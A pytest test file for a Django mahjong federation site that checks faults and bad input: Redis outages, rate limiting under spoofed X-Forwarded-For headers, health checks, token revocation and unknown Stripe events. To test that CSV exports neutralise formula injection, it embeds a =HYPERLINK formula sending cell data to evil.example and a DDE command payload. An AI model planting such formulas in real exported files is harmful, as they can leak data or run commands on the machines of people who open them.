"""Faults and bad input the site meets in its first season (docs/reliability.md): Redis away,
formulas in exported names, made-up X-Forwarded-For, the container's health check, bulk
deactivation and API tokens, Stripe events the site does not know."""

from __future__ import annotations

import csv
import hashlib
import hmac
import io
import json
import logging
import os
import re
import subprocess
import sys
import time
import uuid
from datetime import date
from pathlib import Path

import pytest
from django.test import Client, RequestFactory, override_settings
from payments.core import PROVIDER_CACHE
from rest_framework.authtoken.models import Token

from core import throttles
from core.csv_export import csv_text
from federation.models import User
from ratings.services import ratings_recompute
from tests.factories import UserFactory
from tests.services import requires_redis
from tests.tournaments.confirmed_results import confirmed_tournament, players

pytestmark = pytest.mark.django_db
ROOT = Path(__file__).resolve().parents[2]

# nothing listens there: a Redis that is stopped
REDIS_AWAY = {"default": {"BACKEND": "core.cache.FaultTolerantRedisCache",
                          "LOCATION": "redis://127.0.0.1:6390/0",
                          "KEY_PREFIX": "test-reliability"}}
HAND = json.dumps({"hand": "123m456p789s123s5s5s"})


@pytest.fixture(autouse=True)
def _fresh_local_counts():
    throttles.local_cache.clear()
    yield
    throttles.local_cache.clear()


# --- 1. Redis away ---------------------------------------------------------------------------


@override_settings(CACHES=REDIS_AWAY)
def test_without_redis_pages_and_the_api_answer_and_healthz_says_degraded(
        client, site_content, caplog) -> None:
    caplog.set_level(logging.WARNING, logger="core.cache")
    assert client.get("/en/").status_code == 200
    assert client.get("/en/accounts/login/").status_code == 200
    failed = client.post("/en/accounts/login/", {"login": "nobody@example.org",
                                                  "password": "wrong"})
    assert failed.status_code == 200 and failed.context["form"].errors
    assert client.get("/api/v1/fans").status_code == 200
    response = client.post("/api/v1/score", HAND, content_type="application/json")
    assert response.status_code == 200 and response.json()["total"] > 0

    user = UserFactory()
    key = Token.objects.create(user=user).key
    for _ in range(2):  # the token checked in the database each time
        assert client.post("/api/v1/score", HAND, content_type="application/json",
                           HTTP_AUTHORIZATION=f"Token {key}").status_code == 200

    health = client.get("/healthz")
    assert health.status_code == 200
    assert health.json() == {"status": "degraded", "database": "ok", "cache": "down"}
    # one line says so, not one per request
    warnings = [r for r in caplog.records if r.name == "core.cache"]
    assert len(warnings) == 1 and "Redis cache unreachable" in warnings[0].getMessage()


@override_settings(CACHES=REDIS_AWAY)
def test_without_redis_the_rate_limit_counts_in_the_process(client) -> None:
    answers = [client.get("/api/v1/fans", REMOTE_ADDR="198.51.100.20").status_code
               for _ in range(61)]
    assert answers[:60] == [200] * 60 and answers[60] == 429
    # another client has its own count
    assert client.get("/api/v1/fans", REMOTE_ADDR="198.51.100.21").status_code == 200


def test_healthz_reports_each_dependency(client) -> None:
    response = client.get("/healthz")
    assert response.status_code == 200
    assert response.json() == {"status": "ok", "database": "ok", "cache": "ok"}


# --- 3. Formulas in exported names -----------------------------------------------------------

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode())) for cell in row]


def _assert_neutralised(content: bytes) -> None:
    cells = _cells(content)
    assert "'" + HOSTILE in cells, "the hostile name is exported, as text"
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or re.match(r"-[^\d.]", c)]


def test_every_export_neutralises_formulas(client) -> None:
    people = players(8)
    people[0].name_latin = HOSTILE
    people[0].country = "+cmd|' /C calc'!A0"
    people[0].save()
    tournament = confirmed_tournament(people, date(2025, 9, 20), sessions=2)
    ratings_recompute()

    standings = client.get(f"/en/tournaments/{tournament.pk}/standings.csv")
    assert standings.status_code == 200
    _assert_neutralised(standings.content)

    ratings = client.get("/en/ratings/csv/?period=2025-09")
    assert ratings.status_code == 200
    _assert_neutralised(b"".join(ratings.streaming_content))  # streamed

    template = client.get("/en/tournaments/results-template.csv")
    assert template.status_code == 200
    assert "-20" in _cells(template.content)  # numbers stay numbers


def test_the_one_writer_keeps_numbers_and_quotes_formulas() -> None:
    text = csv_text(["name", "points"], [[HOSTILE, -20], ["@SUM(A1)", "-1.5"]])
    assert _cells(text.encode()) == ["name", "points", "'" + HOSTILE, "-20", "'@SUM(A1)",
                                     "-1.5"]


def test_no_csv_is_written_outside_the_one_writer() -> None:
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(ROOT))
        for app in ("config", "content", "ratings", "tournaments", "federation", "rulebook")
        for path in (ROOT / app).rglob("*.py")
        if writers.search(path.read_text()) and path != ROOT / "config" / "csv_export.py"
    ]
    assert offenders == []


# --- 4. X-Forwarded-For ----------------------------------------------------------------------


def test_made_up_forwarded_for_headers_share_the_clients_limit(client) -> None:
    answers = [
        client.get("/api/v1/fans", REMOTE_ADDR="198.51.100.30",
                   HTTP_X_FORWARDED_FOR=f"203.0.113.{i}").status_code
        for i in range(70)
    ]
    assert answers[:60] == [200] * 60 and set(answers[60:]) == {429}


def test_behind_one_proxy_only_the_address_it_saw_counts(client, settings) -> None:
    settings.REST_FRAMEWORK = {**settings.REST_FRAMEWORK, "NUM_PROXIES": 1}
    answers = [
        # the client wrote the first address; the site's proxy appended the second
        client.get("/api/v1/fans", REMOTE_ADDR="10.0.0.2",
                   HTTP_X_FORWARDED_FOR=f"203.0.113.{i}, 198.51.100.40").status_code
        for i in range(70)
    ]
    assert answers[:60] == [200] * 60 and set(answers[60:]) == {429}
    assert client.get("/api/v1/fans", REMOTE_ADDR="10.0.0.2",
                      HTTP_X_FORWARDED_FOR="198.51.100.41").status_code == 200


def test_login_rate_limits_use_the_same_address(settings) -> None:
    from allauth.account.adapter import get_adapter

    request = RequestFactory().post("/en/accounts/login/", REMOTE_ADDR="198.51.100.50",
                                    HTTP_X_FORWARDED_FOR="203.0.113.1")
    assert get_adapter(request).get_client_ip(request) == "198.51.100.50"
    settings.ALLAUTH_TRUSTED_PROXY_COUNT = 1
    request = RequestFactory().post("/en/accounts/login/", REMOTE_ADDR="10.0.0.2",
                                    HTTP_X_FORWARDED_FOR="203.0.113.1, 198.51.100.51")
    assert get_adapter(request).get_client_ip(request) == "198.51.100.51"


def test_trusted_proxies_setting_feeds_both(monkeypatch) -> None:
    import importlib

    from config.settings import base

    monkeypatch.setenv("DJANGO_TRUSTED_PROXIES", "1")
    try:
        reloaded = importlib.reload(base)
        assert reloaded.TRUSTED_PROXIES == 1
        assert reloaded.REST_FRAMEWORK["NUM_PROXIES"] == 1
        assert reloaded.ALLAUTH_TRUSTED_PROXY_COUNT == 1
    finally:
        monkeypatch.delenv("DJANGO_TRUSTED_PROXIES")
        reloaded = importlib.reload(base)
    assert reloaded.REST_FRAMEWORK["NUM_PROXIES"] == 0


# --- 8. The container's health check ----------------------------------------------------------


@override_settings(ALLOWED_HOSTS=["mahjong.example.org"], SECURE_SSL_REDIRECT=True,
                   SECURE_REDIRECT_EXEMPT=[r"^healthz$"])
def test_the_health_check_answers_plain_http_on_localhost() -> None:
    client = Client()
    for host in ("127.0.0.1:8000", "localhost"):
        response = client.get("/healthz", HTTP_HOST=host)
        assert response.status_code == 200, host
        assert response.json()["database"] == "ok"
    # every other path still checks the host and redirects to https
    assert client.get("/en/", HTTP_HOST="127.0.0.1").status_code == 400
    assert client.get("/en/", HTTP_HOST="mahjong.example.org").status_code == 301
    assert client.get("/healthz/x", HTTP_HOST="127.0.0.1").status_code == 400
    assert client.post("/healthz", HTTP_HOST="127.0.0.1").status_code == 400


def test_production_settings_exempt_the_health_check() -> None:
    code = (
        "import re, config.settings.production as s; "
        "assert s.SECURE_SSL_REDIRECT; "
        "assert any(re.search(p, 'healthz') for p in s.SECURE_REDIRECT_EXEMPT); "
        "assert not any(re.search(p, 'en/') for p in s.SECURE_REDIRECT_EXEMPT); "
        "m = s.MIDDLEWARE; "
        "assert m.index('core.health.HealthCheckMiddleware') "
        "< m.index('django.middleware.common.CommonMiddleware'); print('ok')"
    )
    env = {k: v for k, v in os.environ.items() if not k.startswith(("DJANGO_", "DATABASE_URL"))}
    env.update(DJANGO_SECRET_KEY="x" * 50, DJANGO_ALLOWED_HOSTS="mahjong.example.org",
               SITE_URL="https://mahjong.example.org")
    result = subprocess.run([sys.executable, "-c", code], cwd=ROOT, env=env,
                            capture_output=True, text=True, check=False)
    assert result.stdout.strip() == "ok", result.stderr


# --- 9. Bulk deactivation and API tokens ------------------------------------------------------


def test_bulk_deactivation_cuts_the_api_at_once(client) -> None:
    user = UserFactory()
    key = Token.objects.create(user=user).key

    def status() -> int:
        return client.post("/api/v1/score", HAND, content_type="application/json",
                           HTTP_AUTHORIZATION=f"Token {key}").status_code

    assert status() == 200 and status() == 200  # the second from the token cache
    User.objects.filter(pk=user.pk).update(is_active=False)
    assert status() == 401
    User.objects.filter(pk=user.pk).update(is_active=True)
    assert status() == 200
    Token.objects.filter(user=user).delete()  # a bulk delete too
    assert status() == 401


# --- 10. Stripe events the site does not know ---------------------------------------------------

WEBHOOK_SECRET = "whsec_test_reliability"


@pytest.fixture
def stripe_variant(settings):
    settings.PAYMENT_VARIANTS = {
        "stripe": ("payments.stripe.StripeProviderV3",
                   {"api_key": "sk_test_x", "endpoint_secret": WEBHOOK_SECRET,
                    "secure_endpoint": True})}
    settings.MEMBERSHIP_ONLINE_PAYMENT_VARIANT = "stripe"
    PROVIDER_CACHE.clear()
    yield
    PROVIDER_CACHE.clear()


def _signed(client, event: dict, secret: str = WEBHOOK_SECRET):  # type: ignore[no-untyped-def]
    payload = json.dumps(event).encode()
    timestamp = int(time.time())
    signature = hmac.new(secret.encode(), f"{timestamp}.".encode() + payload,
                         hashlib.sha256).hexdigest()
    return client.post("/payments/process/stripe/", payload, content_type="application/json",
                       HTTP_STRIPE_SIGNATURE=f"t={timestamp},v1={signature}")


def test_a_signed_unknown_stripe_event_is_answered_200(client, stripe_variant, caplog) -> None:
    caplog.set_level(logging.WARNING, logger="federation.online_payments")
    event = {"id": "evt_unknown", "type": "customer.created",
             "data": {"object": {"id": "cus_1"}}}
    response = _signed(client, event)
    assert response.status_code == 200 and response.json()["status"] == "ignored"
    assert any("evt_unknown" in r.getMessage() for r in caplog.records)
    # a checkout of no payment of this site: 200 too, not a redirect
    orphan = {"id": "evt_orphan", "type": "checkout.session.completed",
              "data": {"object": {"id": "cs_x", "status": "complete", "payment_status": "paid",
                                  "client_reference_id": "00000000-0000-0000-0000-000000000000"}}}
    assert _signed(client, orphan).status_code == 200
    # the signature is still checked
    assert _signed(client, event, secret="whsec_wrong").status_code == 400


@requires_redis
def test_with_redis_up_the_backend_is_the_shared_cache(client) -> None:
    prefix = f"test-{uuid.uuid4().hex}"
    with override_settings(CACHES={"default": {
            "BACKEND": "core.cache.FaultTolerantRedisCache",
            "LOCATION": "redis://127.0.0.1:6379/12", "KEY_PREFIX": prefix}}):
        from django.core.cache import cache

        cache.set("k", [1, 2], 30)
        assert cache.get("k") == [1, 2] and not cache.health.is_down()
        assert client.get("/healthz").json() == {"status": "ok", "database": "ok",
                                                  "cache": "ok"}
        answers = [client.get("/api/v1/fans", REMOTE_ADDR="198.51.100.60").status_code
                   for _ in range(61)]
        assert answers[-1] == 429 and answers[:60] == [200] * 60  # the Lua script counted
        cache.clear()
